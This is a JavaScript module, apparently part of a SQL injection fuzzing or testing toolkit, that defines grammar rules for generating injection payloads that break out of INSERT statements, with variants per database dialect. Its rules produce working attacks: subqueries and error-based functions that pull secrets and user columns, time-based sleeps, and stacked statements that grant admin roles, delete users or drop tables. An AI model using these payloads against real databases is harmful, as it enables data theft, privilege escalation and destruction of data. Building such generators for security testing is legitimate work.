import { INSERT_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** Secrets written into new rows: the value goes on as an expression, or further values and rows follow. */
export const insertValues = sqlGenerator({
  name: 'insert-values',
  places: INSERT_PLACES,
  rules: {
    start: [
      '{base}{quote}{glue}{leak}{rejoin}',
      '{base}{quote}{glue}({leak}){rejoin}',
      '{base}{quote},{leak},{digit}) {comment}',
      '{base}{quote},{leak}) {comment}',
      '{base}{quote}) {comment}',
      "{base}{quote}), ('a',{leak}) {comment}",
      "{base}{quote},'a',1), ('a',{leak},{digit}) {comment}",
      '{base}{quote});{second}{comment}',
      '{base}{quote},1,1);{second}{comment}',
    ],
    glue: ['||'],
    leak: ['{secret}', '{all}', '(SELECT {column} FROM users WHERE id={digit})', '{version}', '{joined}'],
    second: ["UPDATE users SET role='admin'", 'DELETE FROM users', 'DROP TABLE messages'],
  },
  byDialect: {
    mysql: {
      glue: ['+', '-', '^', '|', ' or ', ' and '],
      leak: [
        '{secret}',
        '{all}',
        '{sleep}',
        'EXTRACTVALUE(1,{joined})',
        'ASCII({substring})',
        'UPDATEXML(1,{joined},0)',
      ],
    },
    postgres: { leak: ['{secret}', '{all}', '{version}', 'CAST({secret} AS int)::text'] },
    sqlite: {},
    mssql: { glue: ['+'] },
    oracle: {},
  },
});
